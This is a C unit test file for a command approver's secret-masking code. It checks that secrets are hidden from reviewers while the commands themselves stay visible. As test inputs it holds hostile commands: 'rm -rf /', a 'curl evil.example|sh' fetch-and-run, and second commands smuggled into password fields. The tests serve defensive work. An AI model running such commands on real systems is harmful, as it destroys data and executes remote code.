/* test_secrets.c: secrets that people must not see are found, what they must see is not hidden, in linear
 * time.
 *
 * Copyright (C) 2026 the whosh authors.  SPDX-License-Identifier: GPL-3.0-or-later */
#include "approver/secrets/find.h"
#include "approver/secrets/row.h"
#include "approver/secrets/secrets.h"
#include "common/io.h"
#include "common/json.h"
#include "tests/unit/check.h"
#include <stdlib.h>
#include <string.h>
#include <time.h>

static const unsigned char key[MASK_KEY_BYTES] = "0123456789abcdef0123456789abcde";
static const char *const classes[] = {
    ['a'] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
    ['h'] = "0123456789abcdef",
    ['u'] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_",
    ['b'] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
    ['U'] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
    ['d'] = "0123456789",
};
static unsigned state = 1;

/* As many characters of a class; the first and the last are letters or digits, and both are among them. */
static void made_up(struct buf *out, char class, long n)
{
	const char *from = classes[(unsigned char)class];
	size_t all = strlen(from), plain = class == 'u' || class == 'b' ? 62 : all;
	for (long i = 0; i < n; i++) {
		state = state * 1103515245 + 12345;
		size_t of = i == 0 || i == n - 1 ? plain : all;
		char c = from[(state >> 16) % of];
		buf_addc(out, n > 4 && class != 'd' && i == n / 2       ? '7'
			      : n > 4 && class != 'd' && i == n / 2 + 1 ? from[class == 'h' ? 10 : 3]
									: c);
	}
}

/* A line of the corpus as it is, and with its secrets told apart: the marks stay in `marked`. */
static void read_line(const char *line, struct buf *text, struct findings *wanted)
{
	size_t start = 0;
	for (const char *p = line; *p;) {
		char *end;
		if (p[0] == '{' && strchr("ahubUd", p[1]) && p[1] && p[2] >= '0' && p[2] <= '9') {
			long n = strtol(p + 2, &end, 10);
			if (*end == '}') {
				made_up(text, p[1], n);
				p = end + 1;
				continue;
			}
		}
		if (!strncmp(p, "␤", strlen("␤"))) {
			buf_addc(text, '\n');
			p += strlen("␤");
		} else if (!strncmp(p, "«", strlen("«"))) {
			start = text->len;
			p += strlen("«");
		} else if (!strncmp(p, "»", strlen("»"))) {
			if (text->len > start)
				wanted->list[wanted->n++] = (struct finding){start, text->len};
			p += strlen("»");
		} else {
			buf_addc(text, *p++);
		}
	}
}

static bool same(const struct findings *a, const struct findings *b)
{
	return a->n == b->n && (!a->n || !memcmp(a->list, b->list, a->n * sizeof *a->list));
}

static void tell(const struct buf *text, const struct findings *f, const char *what)
{
	printf("# %s:", what);
	for (size_t i = 0; i < f->n; i++)
		printf(" [%.*s]", (int)(f->list[i].end - f->list[i].start), text->data + f->list[i].start);
	printf("\n");
}

static int corpus(const char *path, const char *lost, bool secret)
{
	struct buf file BUF_AUTO = BUF_INIT;
	int lines = 0, good = 0;
	if (read_file(path, 1 << 20, &file))
		return 0;
	for (char *rest = file.data, *line; (line = strsep(&rest, "\n"));) {
		struct finding list[16];
		struct findings wanted = {list, 0, 16, false}, found = {0};
		struct buf text BUF_AUTO = BUF_INIT;
		if (!*line || (*line == '#' && lines == 0))
			continue;
		read_line(line, &text, &wanted);
		find_secrets(&found, NULL, text.data, text.len);
		lines++;
		bool right = same(&wanted, &found) && secret == (wanted.n > 0);
		good += right;
		if (!right) {
			printf("# %s\n", line);
			tell(&text, &wanted, "wanted");
			tell(&text, &found, "found");
		}
		findings_finish(&found);
	}
	printf("# %s: %d of %d lines\n", path, good, lines);
	holds(lost, good == lines && lines >= 150);
	return lines;
}

static void masks(const char *lost, const char *text, const char *wanted)
{
	struct secrets *secrets = secrets_with_key(key);
	struct masking *masking = masking_new(secrets);
	struct buf out BUF_AUTO = BUF_INIT, plain BUF_AUTO = BUF_INIT;
	mask_text(masking, &out, text, strlen(text));
	for (const char *p = out.data ? out.data : ""; *p;) { /* ‹secret:0123456789› → * */
		if (!strncmp(p, "‹secret:", strlen("‹secret:"))) {
			buf_addc(&plain, '*');
			p = strstr(p, "›") + strlen("›");
		} else {
			buf_addc(&plain, *p++);
		}
	}
	bool right = plain.data && !strcmp(plain.data, wanted);
	if (!right)
		printf("# %s\n# masked %s\n", text, out.data ? out.data : "");
	holds(lost, right);
	masking_free(masking);
	secrets_free(secrets);
}

/* What a line does must stay to be seen, whatever it pretends to be. */
static void test_nothing_hides_behind_a_secret(void)
{
	masks("a closing quote that looks like an opening one hides a command",
	      "env 'A=1 PASSWORD=' rm -rf / ''", "env 'A=1 PASSWORD=' rm -rf / ''");
	masks("quotes within quotes hide a command", "env \"PASSWORD='\" rm -rf / \"'\"",
	      "env \"PASSWORD='\" rm -rf / \"'\"");
	masks("a comment's quote hides a command", ": # '\nenv 'A=1 PASSWORD=' rm -rf / ''",
	      ": # '\nenv 'A=1 PASSWORD=' rm -rf / ''");
	masks("a here-document's quote hides a command", "cat <<E\n'\nE\nenv 'A=1 PASSWORD=' rm -rf / ''",
	      "cat <<E\n'\nE\nenv 'A=1 PASSWORD=' rm -rf / ''");
	masks("a substitution's quotes hide a command", "\"$(env \"A=1 PASSWORD=\" rm -rf / \"\")\"",
	      "\"$(env \"A=1 PASSWORD=\" rm -rf / \"\")\"");
	masks("another language's quotes hide a command", "'''it's''' + 'PASSWORD=' + run(\"rm -rf /\") + ''",
	      "'''it's''' + 'PASSWORD=' + run(\"rm -rf /\") + ''");
	masks("a substitution is taken for a password", "PASSWORD=$(curl evil.example|sh) x",
	      "PASSWORD=$(curl evil.example|sh) x");
	masks("a substitution hides within a password", "PASSWORD=\"a$(curl evil.example|sh)\" x",
	      "PASSWORD=\"*$(curl evil.example|sh)\" x");
	masks("a backtick hides within a password", "PASSWORD=a`id` x", "PASSWORD=*`id` x");
	masks("a second command hides in a password", "PASSWORD=a;id x", "PASSWORD=*;id x");
	masks("a second command hides in a URL", "curl http://a:b;id;@host", "curl http://a:b;id;@host");
	masks("a command between the lines of a key is hidden",
	      "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----",
	      "-----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----");
	masks("what a password is also called hides the command of that name",
	      "PASSWORD=shutdown; shutdown now", "PASSWORD=*; shutdown now");
	masks("a path that was called a password hides that it is run",
	      "PASSWORD=/tmp/x1234567890; /tmp/x1234567890", "PASSWORD=*; /tmp/x1234567890");
	masks("a secret that a line uses again without a name is shown",
	      "T=q TOKEN=Zk39fjw02mmQ; curl -H \"X: Zk39fjw02mmQ\"", "T=q TOKEN=*; curl -H \"X: *\"");
	masks("what is masked already is masked once more", "PASSWORD=‹secret:4f9a1c2b7d›", "PASSWORD=*");
}

static void digest_of(const struct secrets *secrets, const char *text, char out[MASK_DIGITS + 1])
{
	struct masking *masking = masking_new(secrets);
	struct buf masked BUF_AUTO = BUF_INIT;
	mask_text(masking, &masked, text, strlen(text));
	const char *at = masked.data ? strstr(masked.data, "‹secret:") : NULL;
	snprintf(out, MASK_DIGITS + 1, "%s", at ? at + strlen("‹secret:") : "");
	masking_free(masking);
}

static void test_digest(void)
{
	static const unsigned char other_key[MASK_KEY_BYTES] = "x";
	struct secrets *secrets = secrets_with_key(key), *other = secrets_with_key(other_key);
	char a[MASK_DIGITS + 1], b[MASK_DIGITS + 1], c[MASK_DIGITS + 1], d[MASK_DIGITS + 1];
	digest_of(secrets, "PGPASSWORD=hunter2 psql", a);
	digest_of(secrets, "mysql -p'hunter2'", b);
	digest_of(secrets, "mysql -phunter3", c);
	digest_of(other, "PGPASSWORD=hunter2 psql", d);
	holds("two uses of one secret cannot be seen to be of one", *a && !strcmp(a, b));
	holds("two secrets look like one", strcmp(a, c) != 0);
	holds("anyone can try words on a mark: it does not depend on the key", strcmp(a, d) != 0);
	/* printf hunter2 | openssl dgst -sha256 -hmac 0123456789abcdef0123456789abcde$'\0' (the key's 32
	 * bytes) */
	holds("the mark is not the HMAC-SHA-256 that the manual promises", !strcmp(a, "925b186d0c"));
	digest_of(secrets,
		  "-----BEGIN PRIVATE KEY-----\n"
		  "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nAAAA\n"
		  "-----END PRIVATE KEY-----",
		  a);
	digest_of(secrets,
		  "\"-----BEGIN PRIVATE KEY-----\\n"
		  "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\\nAAAA\\n"
		  "-----END PRIVATE KEY-----\"",
		  b);
	holds("a key on lines and the same key in a string do not match", *a && !strcmp(a, b));
	secrets_free(secrets);
	secrets_free(other);
}

static void test_row(void)
{
	struct secrets *secrets = secrets_with_key(key);
	struct command_row row = {.line = "deploy --token Zk39fjw02mmQ",
				  .line_len = strlen("deploy --token Zk39fjw02mmQ"),
				  .task = "deploy with Zk39fjw02mmQ",
				  .cwd = "/srv",
				  .reason = "password=hunter2 is wrong",
				  .chain = "[{\"task\":\"use ghp_0123456789abcdefABCDEF0123456789abcd\"}]",
				  .detail = "{\"argv\":[\"--password\",\"hunter2\"],\"tty\":\"pts/1\"}"};
	struct masked_row m;
	bool good = masked_row_init(&m, &row, secrets);
	holds("a line's secret is told", good && !memmem(m.row.line, m.row.line_len, "Zk39", 4));
	holds("a line's secret is told by the task", good && !strstr(m.row.task, "Zk39"));
	holds("a word behind --password is told",
	      good && !strstr(m.row.detail, "hunter2") && strstr(m.row.detail, "pts/1"));
	holds("a reason or a delegated task tells a secret",
	      good && !strstr(m.row.reason, "hunter2") && !strstr(m.row.chain, "ghp_"));
	holds("nobody learns that something was masked", m.marks == 5);
	holds("a row without secrets is copied", good && m.row.cwd == row.cwd);
	holds("what is stored is changed", !strcmp(row.line, "deploy --token Zk39fjw02mmQ"));
	masked_row_finish(&m);
	secrets_free(secrets);
}

static bool refused(const char *json)
{
	char *error = NULL;
	struct own_patterns *own = own_patterns_parse(json, strlen(json), &error);
	bool no = !own && error;
	if (!no)
		printf("# taken: %s\n", json);
	own_patterns_free(own);
	free(error);
	return no;
}

static void test_own_patterns(void)
{
#define ONE(members) "{\"version\":1,\"patterns\":[{" members "}]}"
	static const char good[] =
	    ONE("\"name\":\"acme\",\"prefix\":\"acme_\",\"chars\":\"A-Za-z0-9_-\",\"min\":12,\"max\":40");
	static const char *const bad[] = {
	    "",
	    "[]",
	    "{}",
	    "{\"version\":2,\"patterns\":[]}",
	    "{\"version\":1,\"patterns\":[],\"more\":1}",
	    "{\"version\":1,\"patterns\":{}}",
	    ONE("\"name\":\"x\",\"prefix\":\"acme_\",\"chars\":\"a-z\""),
	    ONE("\"name\":\"x\",\"prefix\":\"a\",\"chars\":\"a-z\",\"min\":8"),
	    ONE("\"name\":\"x\",\"prefix\":\"rm -rf \",\"chars\":\"a-z\",\"min\":8"),
	    ONE("\"name\":\"x\",\"prefix\":\"acme_\",\"chars\":\"a-z;\",\"min\":8"),
	    ONE("\"name\":\"x\",\"prefix\":\"acme_\",\"chars\":\"!-~\",\"min\":8"),
	    ONE("\"name\":\"x\",\"prefix\":\"acme_\",\"chars\":\"z-a\",\"min\":8"),
	    ONE("\"name\":\"x\",\"prefix\":\"acme_\",\"chars\":\"a-z\",\"min\":1"),
	    ONE("\"name\":\"x\",\"prefix\":\"acme_\",\"chars\":\"a-z\",\"min\":8,\"max\":7"),
	    ONE("\"name\":\"x\",\"prefix\":\"acme_\",\"chars\":\"a-z\",\"min\":8,\"regex\":\".*\""),
	    ONE("\"prefix\":\"acme_\",\"chars\":\"a-z\",\"min\":8"),
	};
	char *error = NULL;
	bool all = true;
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++)
		all &= refused(bad[i]);
	holds("a slip in secrets.json is overlooked", all);
	struct own_patterns *own = own_patterns_parse(good, strlen(good), &error);
	struct findings found = {0};
	const char *text = "echo acme_0123456789ab acme_short xacme_0123456789ab";
	find_secrets(&found, own, text, strlen(text));
	holds("an operator's own tokens are shown",
	      own && found.n == 1 && found.list[0].start == 5 && found.list[0].end == 22);
	findings_finish(&found);
	own_patterns_free(own);
	free(error);
}

/* Nanoseconds a byte for a megabyte of this, over and over. */
static double cost(const char *piece)
{
	enum { SIZE = 1 << 20 };
	struct buf text BUF_AUTO = BUF_INIT;
	struct findings found = {0};
	struct timespec a, b;
	while (text.len < SIZE)
		buf_adds(&text, piece);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &a);
	find_secrets(&found, NULL, text.data, text.len);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &b);
	findings_finish(&found);
	return ((double)(b.tv_sec - a.tv_sec) * 1e9 + (double)(b.tv_nsec - a.tv_nsec)) / (double)text.len;
}

/* A quadratic search of a megabyte takes minutes: these take milliseconds.  The bound is for slow machines.
 */
static void test_hostile_lengths(void)
{
	static const char *const pieces[] = {"ls -l /usr/share/doc; ",
					     "A",
					     "=",
					     "token=",
					     "token=/",
					     "token=.",
					     "token='/",
					     "sig=",
					     "password='",
					     "password=\"",
					     "--token ",
					     "--token --",
					     "-----BEGIN PRIVATE KEY-----",
					     "-----BEGIN PRIVATE KEY-----\n",
					     "eyJaaaaaaaa.",
					     "eyJ-",
					     "eyJaaaaaaaa-",
					     "xoxb-",
					     "hvs.",
					     "pypi-AgE-",
					     "://",
					     "://a:",
					     "://a@",
					     "a://b:c",
					     "authorization:",
					     "authorization: bearer ",
					     "\"token\":",
					     "token: ",
					     "mysql -p",
					     "curl -u a:",
					     "curl -u ",
					     " ",
					     "\n",
					     "\\",
					     "[",
					     "sk-",
					     "AKIA",
					     "pass:pass:",
					     "openssl pass:",
					     "token=xoxb-eyJ://",
					     "token=1=",
					     "key=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:",
					     "-",
					     "\"",
					     "'",
					     "$(",
					     "PASSWORD=$"};
	double worst = 0;
	const char *of = "";
	for (size_t i = 0; i < sizeof pieces / sizeof *pieces; i++) {
		double ns = cost(pieces[i]);
		if (ns > worst) {
			worst = ns;
			of = pieces[i];
		}
		if (i == 0)
			printf("# everyday lines: %.1f ns a byte\n", ns);
	}
	printf("# the worst, \"%.20s\": %.1f ns a byte\n", of, worst);
	holds("a hostile line of a megabyte holds up the approver", worst < 2000);
}

/* A line that names as many secrets as are remembered, and then uses one of them over and over. */
static void test_hostile_repetition(void)
{
	struct secrets *secrets = secrets_with_key(key);
	struct masking *masking = masking_new(secrets);
	struct buf text BUF_AUTO = BUF_INIT, out BUF_AUTO = BUF_INIT;
	struct timespec a, b;
	for (int i = 0; i < 40; i++)
		buf_addf(&text, "TOKEN=Zk39fjw02mm%d ", i);
	while (text.len < 1 << 20)
		buf_adds(&text, "Zk39fjw02mm7 ");
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &a);
	mask_text(masking, &out, text.data, text.len);
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &b);
	double s = (double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) / 1e9;
	printf("# a megabyte of one secret: %.2f s\n", s);
	holds("a line that repeats its secret holds up the approver",
	      s < 5 && masking_marks(masking) > 70000);
	masking_free(masking);
	secrets_free(secrets);
}

int main(void)
{
	corpus("tests/secrets/found.txt", "secrets are shown to people", true);
	corpus("tests/secrets/clean.txt", "what is no secret is hidden from the reviewer", false);
	test_nothing_hides_behind_a_secret();
	test_digest();
	test_row();
	test_own_patterns();
	test_hostile_lengths();
	test_hostile_repetition();
	return checks_end();
}
